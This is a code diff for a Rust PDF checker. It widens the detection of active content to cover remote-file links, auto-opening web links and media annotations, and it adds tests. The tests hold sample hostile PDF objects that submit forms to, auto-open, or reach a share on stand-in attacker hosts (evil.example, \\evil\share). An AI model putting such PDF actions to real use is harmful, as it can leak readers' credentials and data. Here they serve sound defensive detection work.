@@ -119,10 +119,13 @@ pub fn image_size(data: &[u8]) -> Option<(u32, u32)> {
 /// Whether any object of `pdf` (those in compressed object streams too) asks a viewer to
 /// act: a script (`/JS`, `/JavaScript`), an action that launches, imports, submits or
 /// plays (`/S /Launch` …), files carried inside (`/EmbeddedFile(s)`), an XFA form, rich
-/// media, or actions run on events (`/AA`). A page to open at (`/OpenAction` to a page,
-/// as scanners write) is not one.
+/// media or a movie, sound or screen to play, or actions run on events (`/AA`). A link to
+/// another file (`/GoToR`, which on Windows reaches out to a share with the reader's
+/// credentials) is one anywhere; a web link only when it opens by itself (`/OpenAction`):
+/// a clicked link in an exported document is ordinary. A page to open at (`/OpenAction` to
+/// a page, as scanners write) is not one.
 fn active_content(pdf: &hayro_syntax::Pdf) -> bool {
-    use hayro_syntax::object::{MaybeRef, Object};
+    use hayro_syntax::object::{Dict, MaybeRef, Name, Object};
     const KEYS: [&[u8]; 7] = [
         b"JS",
         b"JavaScript",
@@ -132,16 +135,21 @@ fn active_content(pdf: &hayro_syntax::Pdf) -> bool {
         b"RichMediaContent",
         b"AA",
     ];
-    const ACTIONS: [&[u8]; 8] = [
+    const ACTIONS: [&[u8]; 11] = [
         b"JavaScript",
         b"Launch",
         b"ImportData",
         b"SubmitForm",
         b"GoToE",
+        b"GoToR",
         b"Rendition",
         b"RichMediaExecute",
         b"Sound",
+        b"Movie",
+        b"Thread",
     ];
+    /// Annotations that play something.
+    const PLAYERS: [&[u8]; 5] = [b"RichMedia", b"Movie", b"Sound", b"Screen", b"3D"];
     fn active(object: &Object<'_>, depth: u8) -> bool {
         if depth > 12 {
             return false;
@@ -167,12 +175,31 @@ fn active_content(pdf: &hayro_syntax::Pdf) -> bool {
                     let name: &[u8] = name.as_ref();
                     ACTIONS.contains(&name) || name == b"EmbeddedFile"
                 }
+                MaybeRef::NotRef(Object::Name(name)) if key == b"Subtype" => {
+                    let name: &[u8] = name.as_ref();
+                    PLAYERS.contains(&name)
+                }
                 MaybeRef::NotRef(inner) => active(&inner, depth + 1),
                 MaybeRef::Ref(_) => false,
             }
         })
     }
-    pdf.objects().into_iter().any(|object| active(&object, 0))
+    // A web address opened by itself, the action written in place or as an object of its
+    // own.
+    let opens_a_link = |object: &Object<'_>| {
+        let Object::Dict(dict) = object else {
+            return false;
+        };
+        dict.get::<Dict<'_>>(b"OpenAction")
+            .and_then(|action| action.get::<Name<'_>>(b"S"))
+            .is_some_and(|name| {
+                let name: &[u8] = name.as_ref();
+                name == b"URI"
+            })
+    };
+    pdf.objects()
+        .into_iter()
+        .any(|object| active(&object, 0) || opens_a_link(&object))
 }
 
 /// The number of pages of a PDF that parses (`None` when it does not, or has none).
@@ -303,6 +330,22 @@ mod tests {
                 "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
                 &["<< /S /SubmitForm /F (http://evil.example) >>"][..],
             ),
+            (
+                "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+                &["<< /S /GoToR /F (\\\\evil\\share\\x.pdf) /D [0 /Fit] >>"][..],
+            ),
+            (
+                "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+                &["<< /S /URI /URI (http://evil.example/) >>"][..],
+            ),
+            (
+                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://evil.example/) >> >>",
+                &[][..],
+            ),
+            (
+                "<< /Type /Catalog /Pages 2 0 R >>",
+                &["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"][..],
+            ),
         ] {
             assert_eq!(
                 inspect(&pdf_of(catalog, more)),
@@ -315,6 +358,14 @@ mod tests {
             &[],
         );
         assert_eq!(inspect(&opens_at_a_page).map(|i| i.pages), Ok(Some(2)));
+        // A link clicked, as a document exported from a word processor has.
+        let with_a_link = pdf_of(
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            &[
+                "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.gsxt.gov.cn/) >> >>",
+            ],
+        );
+        assert_eq!(inspect(&with_a_link).map(|i| i.pages), Ok(Some(2)));
     }
 
     #[test]
